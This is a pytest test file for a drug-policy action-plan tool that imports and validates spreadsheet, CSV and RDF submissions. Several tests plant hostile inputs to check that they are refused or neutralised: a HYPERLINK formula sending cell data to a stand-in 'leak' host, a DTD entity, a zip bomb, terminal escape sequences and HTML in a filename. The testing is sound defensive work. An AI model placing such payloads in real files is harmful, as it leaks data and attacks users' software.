"""The national coordinator's route: template workbook, import, validate, reports (issue 12).

The workbook is filled with openpyxl the way a person fills it: typing statuses, typing dates as
text (30.05.2024, 30/05/2024), a wrong practice number, a blank status, a wrong block, a formula.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from rdflib import Graph, Literal, URIRef

from drugpolicy_kg.cli import cli
from drugpolicy_kg.errors import InputError
from drugpolicy_kg.plans.importer import import_spreadsheet, parse_date
from drugpolicy_kg.plans.template_xlsx import recital_12, template_workbook
from drugpolicy_kg.plans.workbook import check_xlsx
from drugpolicy_kg.validation import (
    render_csv,
    render_html,
    render_json,
    render_text,
    render_turtle,
    validate_upload,
)
from drugpolicy_kg.vocab import DPO, DPS, SH

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "plans" / "nld-2024.ttl"
ISSUED = dt.date(2024, 5, 30)


@pytest.fixture(scope="module")
def template_bytes() -> bytes:
    return template_workbook("NLD", issued=ISSUED)


def columns(sheet) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """Header text -> column letter, found by the words a person reads."""
    out = {}
    for cell in sheet[1]:
        if isinstance(cell.value, str):
            out[cell.value.split(" (")[0].lower()] = cell.column_letter
    return out


def row_of(sheet, notation: str) -> int:  # type: ignore[no-untyped-def]
    for row in range(2, sheet.max_row + 1):
        if sheet[f"A{row}"].value == notation:
            return row
    raise AssertionError(notation)


def filled(template: bytes) -> tuple[object, object, dict[str, str]]:
    """The template with every practice Adopted and described, as a person would fill it."""
    book = load_workbook(io.BytesIO(template))
    sheet = book["Plan"]
    col = columns(sheet)
    for row in range(2, 46):
        sheet[f"{col['status']}{row}"] = "Adopted"
        sheet[f"{col['implementation measures']}{row}"] = "In force since 2023 (national law)."
    return book, sheet, col


def save(book, path: Path) -> Path:  # type: ignore[no-untyped-def]
    book.save(path)
    return path


# --------------------------------------------------------------------------- the template


def test_template_workbook_is_what_a_coordinator_expects(template_bytes: bytes) -> None:
    book = load_workbook(io.BytesIO(template_bytes))
    assert book.sheetnames == ["Instructions", "Submission", "Plan"]
    info = "\n".join(
        str(c.value) for row in book["Instructions"].iter_rows() for c in row if c.value
    )
    assert recital_12() in info  # verbatim
    assert recital_12().startswith("Given that the primary aim of this thematic Schengen")
    assert "within three months after this Decision enters into force" in recital_12()
    sheet = book["Plan"]
    col = columns(sheet)
    # editable columns right after the practice number and title; the IRIs hidden at the end
    assert list(col)[:4] == ["practice", "short title", "status", "implementation measures"]
    assert sheet.column_dimensions[col["entry"]].hidden
    assert sheet.freeze_panes == "C2"
    notations = [sheet[f"A{r}"].value for r in range(2, 46)]
    assert notations[:3] == ["I.1", "I.2", "I.3"] and notations[-1] == "IV.21"
    assert sheet[f"{col['block']}23"].value == "III" and sheet["A23"].value == "III.9"
    assert "partners outside the European Union" in sheet[f"{col['text of the practice']}23"].value
    validations = {
        str(dv.sqref).split(":")[0].rstrip("0123456789"): dv
        for dv in sheet.data_validations.dataValidation
    }
    status = validations[col["status"]]
    assert status.type == "list" and "Under assessment" in status.formula1
    assert validations[col["target date"]].type == "date"
    assert "NLD" in validations[col["states consulted"]].formula1
    assert sheet[f"{col['target date']}2"].number_format == "DD.MM.YYYY"
    submission = book["Submission"]
    assert submission["B2"].value == "NLD"
    assert submission["B3"].value.date() == ISSUED  # a real date cell
    assert submission.row_dimensions[8].hidden  # the plan identifier


def test_template_workbook_is_deterministic(template_bytes: bytes) -> None:
    assert template_workbook("NLD", issued=ISSUED) == template_bytes


def test_cli_template_format_by_extension_or_option(tmp_path: Path) -> None:
    runner = CliRunner()
    xlsx, ttl, other = tmp_path / "nl.xlsx", tmp_path / "nl.ttl", tmp_path / "nl.doc"
    assert (
        runner.invoke(cli, ["plan", "template", "--state", "NLD", "-o", str(xlsx)]).exit_code == 0
    )
    assert xlsx.read_bytes().startswith(b"PK")
    assert runner.invoke(cli, ["plan", "template", "--state", "NLD", "-o", str(ttl)]).exit_code == 0
    assert len(set(Graph().parse(ttl).objects(None, DPO.practice))) == 44
    bad = runner.invoke(cli, ["plan", "template", "--state", "NLD", "-o", str(other)])
    assert bad.exit_code == 2 and ".xlsx" in bad.output
    mismatch = runner.invoke(
        cli, ["plan", "template", "--state", "NLD", "--format", "turtle", "-o", str(xlsx)]
    )
    assert mismatch.exit_code == 2


# --------------------------------------------------------------------------- import


def test_filled_template_validates_and_imports_clean(template_bytes: bytes, tmp_path: Path) -> None:
    book, _sheet, _col = filled(template_bytes)
    path = save(book, tmp_path / "nl.xlsx")
    runner = CliRunner()
    result = runner.invoke(cli, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "nl.ttl"
    result = runner.invoke(cli, ["plan", "import", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert runner.invoke(cli, ["validate", str(out)]).exit_code == 0


def plant_mistakes(template: bytes, path: Path) -> dict[str, str]:
    """The mistakes people make; returns cell -> a word its message must contain."""
    book, sheet, col = filled(template)
    s, d, m, b = col["status"], col["target date"], col["implementation measures"], col["block"]
    sheet["A10"] = "IV.22"  # II.1's row: a wrong practice number
    sheet[f"{s}5"] = None  # I.4: a blank status
    sheet[f"{s}12"] = "Adoptd"  # II.3: a typo
    sheet[f"{d}6"] = "30.05.2025"  # fine: read unambiguously
    sheet[f"{d}7"] = "30/05/2025"  # fine
    sheet[f"{d}8"] = "05/06/2025"  # I.7: ambiguous, refused
    sheet[f"{b}23"] = "IV"  # III.9: a block contradicting the practice
    sheet[f"{m}13"] = '=HYPERLINK("http://x.example/leak?d="&A2,"x")'  # II.4: a formula
    sheet[f"{col['states consulted']}14"] = "BEL, XYZ"  # II.5: an unknown state
    sheet[f"A{row_of(sheet, 'IV.3')}"] = "IV.2"  # a duplicate row
    save(book, path)
    return {
        "Plan!A10": "IV.22",
        "Plan!C5": "empty",
        "Plan!C12": "Adoptd",
        "Plan!G8": "ambiguous",
        "Plan!J23": "belongs to block III",
        "Plan!D13": "formula",
        "Plan!H14": "XYZ",
        f"Plan!A{row_of(sheet, 'IV.2') + 1}": "already answered",
    }


def test_every_mistake_is_reported_once_at_its_cell(template_bytes: bytes, tmp_path: Path) -> None:
    path = tmp_path / "nl.xlsx"
    planted = plant_mistakes(template_bytes, path)
    report = validate_upload(path.read_bytes(), "nl.xlsx")
    problems = [r for r in report.results if r.severity != "Info"]
    cells = [f"{r.location['sheet']}!{r.location['cell']}" for r in problems if r.location]
    assert sorted(cells) == sorted(planted), [r.message for r in problems]
    for r in problems:
        cell = f"{r.location['sheet']}!{r.location['cell']}"
        assert planted[cell] in r.message, (cell, r.message)
    runner = CliRunner()
    result = runner.invoke(cli, ["validate", str(path)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    for cell in planted:
        assert f"({cell})" in result.output, cell
    out = tmp_path / "out.ttl"
    result = runner.invoke(cli, ["plan", "import", str(path), "-o", str(out)])
    assert result.exit_code == 1 and not out.exists(), result.output
    assert "Plan!A10" in result.output and "nothing written" in result.output


def test_wrong_block_cell_gives_one_result_naming_the_cell(template_bytes: bytes) -> None:
    book, sheet, col = filled(template_bytes)
    sheet[f"{col['block']}{row_of(sheet, 'III.9')}"] = "IV"
    buffer = io.BytesIO()
    book.save(buffer)
    report = validate_upload(buffer.getvalue(), "nl.xlsx")
    assert [(r.severity, r.location["cell"], r.practice) for r in report.results] == [
        ("Violation", "J23", "III.9")
    ]
    text = render_text([report])
    assert "block III, practice III.9" in text and "row 23" in text


def test_fixing_the_cells_gives_exit_0(template_bytes: bytes, tmp_path: Path) -> None:
    path = tmp_path / "nl.xlsx"
    plant_mistakes(template_bytes, path)
    book = load_workbook(path)
    sheet = book["Plan"]
    col = columns(sheet)
    sheet["A10"] = "II.1"
    sheet[f"{col['status']}5"] = "Not planned"
    sheet[f"{col['reason']}5"] = "Not compatible with the constitution."
    sheet[f"{col['status']}12"] = "Planned"
    sheet[f"{col['target date']}8"] = "2025-06-05"
    sheet[f"{col['block']}23"] = "III"
    sheet[f"{col['implementation measures']}13"] = "A national platform."
    sheet[f"{col['states consulted']}14"] = "BEL, FRA"
    sheet[f"A{row_of(sheet, 'IV.2') + 1}"] = "IV.3"
    save(book, path)
    result = CliRunner().invoke(cli, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    graph = import_spreadsheet(path.read_bytes(), "nl.xlsx").graph
    dates = {str(o) for o in graph.objects(None, DPO.targetDate)}
    assert dates == {"2025-05-30", "2025-06-05"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("30.05.2024", dt.date(2024, 5, 30)),
        ("30/05/2024", dt.date(2024, 5, 30)),
        ("30-05-2024", dt.date(2024, 5, 30)),
        ("2024-05-30", dt.date(2024, 5, 30)),
        ("05.06.2024", dt.date(2024, 6, 5)),
        ("06/06/2024", dt.date(2024, 6, 6)),
        (dt.datetime(2024, 5, 30), dt.date(2024, 5, 30)),
    ],
)
def test_dates_read_unambiguously(value: object, expected: dt.date) -> None:
    assert parse_date(value) == (expected, None)


@pytest.mark.parametrize(
    ("value", "word"),
    [
        ("05/06/2024", "ambiguous"),
        ("05-06-2024", "ambiguous"),
        ("05/30/2024", "month"),
        ("2024/05/30", "not a date"),
        ("30.02.2024", "calendar"),
        ("30.05.24", "not a date"),
        ("next year", "not a date"),
        (45000, "number"),
    ],
)
def test_dates_never_guessed(value: object, word: str) -> None:
    day, error = parse_date(value)
    assert day is None and error is not None and word in error
    assert "30.05.2024" in error  # the expected form


def test_submission_date_typed_as_text(template_bytes: bytes) -> None:
    book, _sheet, _col = filled(template_bytes)
    book["Submission"]["B3"] = "30.05.2024"
    buffer = io.BytesIO()
    book.save(buffer)
    imported = import_spreadsheet(buffer.getvalue(), "nl.xlsx")
    assert not imported.problems
    assert {
        str(o) for o in imported.graph.objects(None, URIRef("http://purl.org/dc/terms/issued"))
    } == {"2024-05-30"}
    book["Submission"]["B3"] = "04/06/2024"
    buffer = io.BytesIO()
    book.save(buffer)
    report = validate_upload(buffer.getvalue(), "nl.xlsx")
    assert [(r.location["cell"], r.severity) for r in report.results] == [("B3", "Violation")]
    assert "ambiguous" in report.results[0].message


def test_a_target_date_before_submission_points_at_the_target_date_cell(
    template_bytes: bytes,
) -> None:
    """The warning compares two dates; the one to change is the target date, so that is the
    cell named (not the row's first cell, nor the submission date)."""
    book, sheet, col = filled(template_bytes)
    book["Submission"]["B3"] = "30.05.2024"
    row = row_of(sheet, "I.5")
    sheet[f"{col['status']}{row}"] = "Planned"
    sheet[f"{col['target date']}{row}"] = "01.01.2024"
    buffer = io.BytesIO()
    book.save(buffer)
    report = validate_upload(buffer.getvalue(), "nl.xlsx")
    late = [r for r in report.results if r.shape.endswith("EntryTargetAfterSubmissionShape")]
    assert len(late) == 1 and late[0].severity == "Warning"
    assert late[0].location is not None
    assert late[0].location["cell"] == f"{col['target date']}{row}", late[0].location


# --------------------------------------------------------------------------- hostile workbooks


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_hostile_workbooks_exit_2_with_a_clear_message(
    template_bytes: bytes, tmp_path: Path
) -> None:
    members = _members(template_bytes)
    cases = {
        "truncated": (template_bytes[: len(template_bytes) // 2], "damaged or incomplete"),
        "dtd": (
            _zip(
                {
                    **members,
                    "xl/sharedStrings.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><sst/>',
                }
            ),
            "DTD",
        ),
        "bomb": (
            _zip(
                {
                    **members,
                    "xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 5_000_000 + b"</sst>",
                }
            ),
            "too large once unpacked",
        ),
        "dimension": (
            _zip(
                {
                    **members,
                    "xl/worksheets/sheet3.xml": members["xl/worksheets/sheet3.xml"].replace(
                        b'<dimension ref="A1:L65" />', b'<dimension ref="A1:XFD1048576"/>'
                    ),
                }
            ),
            "declares 1,048,576 rows",
        ),
        "not a zip": (b"hello, world", "damaged or incomplete"),
    }
    assert b'<dimension ref="A1:L65" />' in members["xl/worksheets/sheet3.xml"]
    runner = CliRunner()
    for name, (data, words) in cases.items():
        path = tmp_path / f"{name.replace(' ', '-')}.xlsx"
        path.write_bytes(data)
        for args in (["validate", str(path)], ["plan", "import", str(path)]):
            result = runner.invoke(cli, args)
            assert result.exit_code == 2, (name, result.output)
            assert words in result.output and "Traceback" not in result.output, (
                name,
                result.output,
            )
        with pytest.raises(InputError):
            check_xlsx(data, name)


# --------------------------------------------------------------------------- RDF inputs


def _example_with(old: str, new: str) -> str:
    text = EXAMPLE.read_text(encoding="utf-8")
    assert old in text
    return text.replace(old, new, 1)


@pytest.mark.parametrize("bad", ["30.05.2024", "30-05-2024", "2024/05/30", "2024-5-30"])
@pytest.mark.parametrize("fmt", ["turtle", "xml", "json-ld", "nt", "trig"])
def test_ill_typed_date_is_one_violation_in_every_format(bad: str, fmt: str) -> None:
    text = _example_with('"2024-05-30"^^xsd:date', f'"{bad}"^^xsd:date')
    data = Graph().parse(data=text, format="turtle").serialize(format=fmt).encode("utf-8")
    report = validate_upload(data, fmt)
    assert [(r.severity, r.shape) for r in report.results if r.severity != "Info"] == [
        ("Violation", str(DPS.WellFormedLiteralShape))
    ]
    message = report.results[0].message
    assert bad in message and "2024-05-30" in message and "submission date" in message
    assert "deadline" not in message


def test_ill_typed_amount_and_cli_never_crash(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace('"2024-05-30"^^xsd:date', '"30.05.2024"^^xsd:date')
    text += '\n<https://example.org/x> <https://w3id.org/drugpolicy-kg/ontology#amount> "1.000,50"^^<http://www.w3.org/2001/XMLSchema#decimal> .\n'
    path = tmp_path / "bad.ttl"
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(cli, ["validate", str(path), "--format", "json"])
    assert result.exit_code == 1, result.output
    data = json.loads(result.output)
    bad = [r for r in data["results"] if r["shape"].endswith("WellFormedLiteralShape")]
    assert sorted(r["value"] for r in bad) == ["1.000,50", "30.05.2024"]
    assert all(r["location"]["line"] for r in bad)


def test_turtle_locations_name_the_line_of_the_entry(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    match = re.search(
        r"dpo:status dpo:Adopted ;\n\s*dpo:implementationMeasures \"[^\"]*\"@en", text
    )
    assert match is not None
    text = text[: match.start()] + "dpo:status dpo:Adopted" + text[match.end() :]
    path = tmp_path / "plan.ttl"
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(cli, ["validate", str(path), "--format", "json"])
    assert result.exit_code == 1
    (violation,) = [r for r in json.loads(result.output)["results"] if r["severity"] == "Violation"]
    line = violation["location"]["line"]
    assert violation["location"]["file"] == str(path)
    subject = text.splitlines()[line - 1]
    assert violation["focusNode"].rsplit("/", 1)[-1] in subject, subject


def test_duplicate_practice_in_turtle_is_one_message(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    graph = Graph().parse(data=text, format="turtle")
    entries = sorted(graph.subjects(DPO.practice, None), key=str)
    a, b = entries[0], entries[1]
    graph.set((b, DPO.practice, graph.value(a, DPO.practice)))
    report = validate_upload(graph.serialize(format="turtle").encode(), "plan.ttl")
    violations = [r for r in report.results if r.severity == "Violation"]
    assert len(violations) == 1 and "also listed at line" in violations[0].message


# --------------------------------------------------------------------------- reports


def test_turtle_report_follows_the_shacl_specification(tmp_path: Path) -> None:
    # only a Warning (late submission): sh:conforms must still be false
    text = _example_with('"2024-05-30"^^xsd:date', '"2024-07-30"^^xsd:date')
    report = validate_upload(text.encode(), "late.ttl")
    assert report.conforms and [r.severity for r in report.results if r.severity != "Info"] == [
        "Warning"
    ]
    graph = Graph().parse(data=render_turtle([report]), format="turtle")
    assert set(graph.objects(None, SH.conforms)) == {Literal(False)}
    clean = validate_upload(EXAMPLE.read_bytes(), "nld.ttl")
    graph = Graph().parse(data=render_turtle([clean]), format="turtle")
    assert set(graph.objects(None, SH.conforms)) == {Literal(not clean.results)}
    # Adopted without measures: the shape's focus (the status node), not the friendlier entry
    text = EXAMPLE.read_text(encoding="utf-8")
    text = re.sub(
        r"dpo:status dpo:Adopted ;\n\s*dpo:implementationMeasures \"[^\"]*\"@en",
        "dpo:status dpo:Adopted",
        text,
        count=1,
    )
    report = validate_upload(text.encode(), "plan.ttl")
    (violation,) = [r for r in report.results if r.severity == "Violation"]
    graph = Graph().parse(data=render_turtle([report]), format="turtle")
    (result,) = [n for n in graph.subjects(SH.sourceShape, DPS.EntryMeasuresShape)]
    assert graph.value(result, SH.focusNode) == DPO.Adopted
    assert str(graph.value(result, SH.value)) == violation.focus_node
    assert violation.location is not None and violation.location["node"] == violation.focus_node


def test_human_reports_speak_of_blocks_rows_and_cells(
    template_bytes: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "nl.xlsx"
    plant_mistakes(template_bytes, path)
    report = validate_upload(path.read_bytes(), "nl.xlsx")
    text = render_text([report])
    page = render_html([report])
    for human in (text, page):
        assert "https://" not in human.replace("http://x.example/leak", "")
        assert "dpo:" not in human and "KG:" not in human
    assert "block III, practice III.9" in text and "row 23 (Plan!J23)" in text
    assert "<h3>Block III: Disrupting criminal networks" in page
    assert "<details><summary>III.9 Operational cooperation" in page
    assert "how to fix" in page and "Pick the status from the drop-down list." in page
    assert "how to fix: Set the block to the numeral the practice number starts with" in text
    data = json.loads(render_json([report]))
    cell = next(r for r in data["results"] if r["location"] and r["location"]["cell"] == "J23")
    assert cell["location"] == {
        "file": "nl.xlsx",
        "sheet": "Plan",
        "cell": "J23",
        "row": 23,
        "node": cell["focusNode"],
    }
    rows = render_csv([report]).splitlines()
    assert rows[0].startswith("file,severity,block,practice,where")
    assert any("'=HYPERLINK" in row for row in rows)  # a value echoed in CSV is neutralised


def test_validate_csv_spreadsheet(tmp_path: Path) -> None:
    runner = CliRunner()
    csv_path = tmp_path / "nld.csv"
    assert runner.invoke(cli, ["plan", "export", str(EXAMPLE), "-o", str(csv_path)]).exit_code == 0
    assert runner.invoke(cli, ["validate", str(csv_path)]).exit_code == 0
    text = csv_path.read_text(encoding="utf-8")
    text = text.replace(",Adopted,", ",Adoptd,", 1)
    csv_path.write_text(text, encoding="utf-8")
    result = runner.invoke(cli, ["validate", str(csv_path), "--format", "json"])
    assert result.exit_code == 1
    (violation,) = [r for r in json.loads(result.output)["results"] if r["severity"] == "Violation"]
    assert violation["location"]["sheet"] is None and violation["location"]["row"] >= 2
    assert violation["location"]["cell"].startswith("O")


# --------------------------------------------------------------------------- formulas


def test_export_never_writes_a_formula(tmp_path: Path) -> None:
    link = '=HYPERLINK("http://x.example/leak?d="&A2, "x")'
    text = EXAMPLE.read_text(encoding="utf-8")
    text = re.sub(
        r'dpo:implementationMeasures "[^"]*"@en',
        f'dpo:implementationMeasures "{link.replace(chr(34), chr(92) + chr(34))}"@en',
        text,
        count=1,
    )
    plan = tmp_path / "plan.ttl"
    plan.write_text(text, encoding="utf-8")
    runner = CliRunner()
    xlsx, csv_path, raw = tmp_path / "p.xlsx", tmp_path / "p.csv", tmp_path / "raw.csv"
    for out in (xlsx, csv_path):
        assert runner.invoke(cli, ["plan", "export", str(plan), "-o", str(out)]).exit_code == 0
    book = load_workbook(xlsx)
    cells = [c for row in book.active.iter_rows() for c in row if c.value == link]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "'=HYPERLINK" in csv_path.read_text(encoding="utf-8")
    assert (
        runner.invoke(
            cli, ["plan", "export", str(plan), "-o", str(raw), "--no-neutralise"]
        ).exit_code
        == 0
    )
    assert '"=HYPERLINK' in raw.read_text(encoding="utf-8") and "'=HYPERLINK" not in raw.read_text(
        encoding="utf-8"
    )
    for sheet in (xlsx, csv_path):  # the text comes back as text
        graph = import_spreadsheet(sheet.read_bytes(), sheet.name).graph
        assert Literal(link, lang="en") in set(graph.objects(None, DPO.implementationMeasures))


def test_formula_typed_into_a_cell_is_reported_with_its_address(template_bytes: bytes) -> None:
    book, sheet, col = filled(template_bytes)
    sheet[f"{col['status']}2"] = '=IF(1,"Adopted","Planned")'
    buffer = io.BytesIO()
    book.save(buffer)
    imported = import_spreadsheet(buffer.getvalue(), "nl.xlsx")
    assert [(p.where.text(), "formula" in p.message) for p in imported.problems] == [
        ("Plan!C2", True)
    ]
    report = validate_upload(buffer.getvalue(), "nl.xlsx")
    assert [r.location["cell"] for r in report.results if r.severity != "Info"] == ["C2"]


def test_export_of_control_characters_is_visible_not_a_crash(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    text = re.sub(
        r'dpo:implementationMeasures "[^"]*"@en',
        r'dpo:implementationMeasures "a\\u001b]0;title\\u0007b"@en',
        text,
        count=1,
    )
    plan = tmp_path / "plan.ttl"
    plan.write_text(text, encoding="utf-8")
    xlsx = tmp_path / "p.xlsx"
    result = CliRunner().invoke(cli, ["plan", "export", str(plan), "-o", str(xlsx)])
    assert result.exit_code == 0, result.output
    values = [c.value for row in load_workbook(xlsx).active.iter_rows() for c in row]
    assert "a\\x1b]0;title\\x07b" in values


def test_a_section_with_the_wrong_block_is_one_message() -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith(":section-III "))
    fix = next(i for i in range(start, start + 5) if "block/III>" in lines[i])
    lines[fix] = lines[fix].replace("block/III>", "block/IV>")
    wrong = "".join(lines)
    for fmt in ("turtle", "nt", "json-ld", "xml"):
        data = Graph().parse(data=wrong, format="turtle").serialize(format=fmt).encode()
        report = validate_upload(data, fmt)
        problems = [r for r in report.results if r.severity != "Info"]
        assert len(problems) == 1, [r.message for r in problems]
        assert "set the section's block to III" in problems[0].message
        assert problems[0].location and problems[0].location["line"]
    report = validate_upload(wrong.encode(), "plan.ttl")
    assert report.results[0].location["line"] == start + 1


def test_export_layout_block_cell_is_one_result(tmp_path: Path) -> None:
    xlsx = tmp_path / "nld.xlsx"
    assert CliRunner().invoke(cli, ["plan", "export", str(EXAMPLE), "-o", str(xlsx)]).exit_code == 0
    book = load_workbook(xlsx)
    sheet = book["Plan"]
    header = [c.value for c in sheet[1]]
    practice, block = header.index("practice") + 1, header.index("block") + 1
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, practice).value == "III.9")
    sheet.cell(row, block).value = "IV"
    book.save(xlsx)
    report = validate_upload(xlsx.read_bytes(), "nld.xlsx")
    assert [(r.practice, r.location["row"]) for r in report.results] == [("III.9", row)]


def test_turtle_report_of_a_workbook_has_one_result_per_mistake(
    template_bytes: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "nl.xlsx"
    planted = plant_mistakes(template_bytes, path)
    report = validate_upload(path.read_bytes(), "nl.xlsx")
    graph = Graph().parse(data=render_turtle([report]), format="turtle")
    (node,) = graph.subjects(SH.conforms, None)
    results = list(graph.objects(node, SH.result))
    severities = [str(graph.value(r, SH.resultSeverity)).rsplit("#", 1)[-1] for r in results]
    assert severities.count("Violation") == len(planted)
    # nothing left dangling: every node of the report hangs from the report
    assert {s for s in graph.subjects() if not list(graph.subjects(None, s))} == {node}


def test_csv_forms_people_save(tmp_path: Path) -> None:
    runner = CliRunner()
    csv_path = tmp_path / "nld.csv"
    assert runner.invoke(cli, ["plan", "export", str(EXAMPLE), "-o", str(csv_path)]).exit_code == 0
    text = csv_path.read_text(encoding="utf-8")
    # Excel in a European locale saves with semicolons
    import csv as csv_module

    rows = list(csv_module.reader(io.StringIO(text)))
    semi = io.StringIO()
    csv_module.writer(semi, delimiter=";", lineterminator="\r\n").writerows(rows)
    path = tmp_path / "semi.csv"
    path.write_text(semi.getvalue(), encoding="utf-8-sig")
    assert runner.invoke(cli, ["validate", str(path)]).exit_code == 0
    # not UTF-8 (Excel's plain "CSV" in Western Europe)
    latin = tmp_path / "latin.csv"
    latin.write_bytes(text.replace("Adopted", "Adopt\u00e9", 1).encode("cp1252"))
    result = runner.invoke(cli, ["validate", str(latin)])
    assert result.exit_code == 2 and "CSV UTF-8" in result.output
    # a terminal escape typed into a cell is shown, not obeyed
    esc = tmp_path / "esc.csv"
    esc.write_text(text.replace(",Adopted,", ",\x1b]0;owned\x07,", 1), encoding="utf-8")
    result = runner.invoke(cli, ["validate", str(esc)])
    assert result.exit_code == 1 and "\x1b" not in result.output
    assert "\\x1b]0;owned\\x07" in result.output


@pytest.mark.parametrize("fmt", ["turtle", "nt", "trig", "json-ld", "xml"])
def test_rdf_locations_in_every_format(fmt: str) -> None:
    text = EXAMPLE.read_text(encoding="utf-8")
    text = re.sub(
        r"dpo:status dpo:Adopted ;\n\s*dpo:implementationMeasures \"[^\"]*\"@en",
        "dpo:status dpo:Adopted",
        text,
        count=1,
    )
    data = Graph().parse(data=text, format="turtle").serialize(format=fmt)
    report = validate_upload(data.encode("utf-8"), fmt)
    (violation,) = [r for r in report.results if r.severity == "Violation"]
    line = violation.location["line"]
    assert isinstance(line, int), violation.location
    written = data.splitlines()[line - 1]
    assert violation.focus_node.rsplit("/", 1)[-1] in written or violation.focus_node in written, (
        written
    )


@pytest.mark.parametrize(
    "value",
    [
        '"2024-05-30"',
        '"2024-05-30"^^xsd:string',
        '"2024"^^xsd:gYear',
        '"2024-05-30T10:00:00"^^xsd:dateTime',
        "42",
    ],
)
def test_a_submission_date_of_another_type_is_one_violation(value: str) -> None:
    """Not a date: no wrong deadline warning, no "target before submission" for every entry."""
    text = _example_with('"2024-05-30"^^xsd:date', value)
    report = validate_upload(text.encode(), "plan.ttl")
    problems = [r for r in report.results if r.severity != "Info"]
    assert [(r.severity, r.shape) for r in problems] == [
        ("Violation", str(DPS.WellFormedLiteralShape))
    ]
    assert "not a date" in problems[0].message and problems[0].location["line"]


def test_a_fifo_or_folder_named_like_a_workbook_is_refused(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "plan.xlsx"
    os.mkfifo(fifo)
    folder = tmp_path / "plans.csv"
    folder.mkdir()
    runner = CliRunner()
    cases = (
        (["validate", str(fifo)], "not a regular file"),
        (["plan", "import", str(fifo)], "not a regular file"),
        (["validate", str(folder)], "no RDF files"),  # a folder is searched
        (["plan", "import", str(folder)], "directory"),
    )
    for args, words in cases:
        result = runner.invoke(cli, args)
        assert result.exit_code == 2 and words in result.output, result.output


def test_a_folder_of_workbooks_is_validated_and_excel_owner_files_skipped(
    template_bytes: bytes, tmp_path: Path
) -> None:
    """Coordinators keep plans as workbooks in a folder: `validate FOLDER` picks up .xlsx (and
    RDF) files; the `~$name.xlsx` file Excel leaves beside an open workbook is not a plan."""
    book, _sheet, _col = filled(template_bytes)
    save(book, tmp_path / "nl.xlsx")
    (tmp_path / "~$nl.xlsx").write_bytes(b"\x0bowner" + bytes(150))
    (tmp_path / "notes.csv").write_text("not,a,plan\n", encoding="utf-8")
    (tmp_path / "be.ttl").write_text(
        (ROOT / "tests" / "fixtures" / "plans" / "valid-minimal.ttl").read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["validate", "-f", "json", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert sorted(Path(d["file"]).name for d in json.loads(result.stdout)) == ["be.ttl", "nl.xlsx"]


BLANK_NODE_PLAN = """\
@prefix dpo: <https://w3id.org/drugpolicy-kg/ontology#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix country: <http://publications.europa.eu/resource/authority/country/> .
@prefix practice: <https://w3id.org/drugpolicy-kg/id/practice/> .
@prefix block: <https://w3id.org/drugpolicy-kg/id/block/> .

<https://example.org/plan> a dpo:ActionPlan ;
    dpo:submittedBy country:NLD ;
    dpo:respondsTo <https://w3id.org/drugpolicy-kg/id/decision/7301-24> ;
    dcterms:issued "2024-05-30"^^xsd:date ;
    dpo:hasSection
        [ dpo:buildingBlock block:I ;
          dpo:hasEntry [ a dpo:ActionPlanEntry ;
              dpo:practice practice:I.1 ;
              dpo:status dpo:Adopted ] ] ,
        [ dpo:buildingBlock block:II ; dpo:hasEntry [ dpo:practice practice:II.1 ; dpo:status dpo:Planned ; dpo:implementationMeasures "x"@en ] ] ,
        [ dpo:buildingBlock block:III ; dpo:hasEntry [ dpo:practice practice:III.1 ; dpo:status dpo:Planned ; dpo:implementationMeasures "x"@en ] ] ,
        [ dpo:buildingBlock block:IV ; dpo:hasEntry [ dpo:practice practice:IV.1 ; dpo:status dpo:Planned ; dpo:implementationMeasures "x"@en ] ] .
"""


def test_a_blank_node_entry_is_located_at_its_practice() -> None:
    report = validate_upload(BLANK_NODE_PLAN.encode(), "plan.ttl")
    (violation,) = [r for r in report.results if r.severity == "Violation"]
    assert violation.focus_node.startswith("_:")
    line = violation.location["line"]
    assert "practice:I.1" in BLANK_NODE_PLAN.splitlines()[line - 1]


def test_html_fragment_for_a_page_of_its_own(template_bytes: bytes, tmp_path: Path) -> None:
    from drugpolicy_kg.validation import render_html_fragment

    path = tmp_path / "nl.xlsx"
    plant_mistakes(template_bytes, path)
    report = validate_upload(path.read_bytes(), "<b>nl</b>.xlsx")
    fragment = render_html_fragment([report])
    assert "<html" not in fragment and "<style" not in fragment
    assert "&lt;b&gt;nl&lt;/b&gt;.xlsx" in fragment and "<b>nl" not in fragment
    assert fragment.strip() in render_html([report])
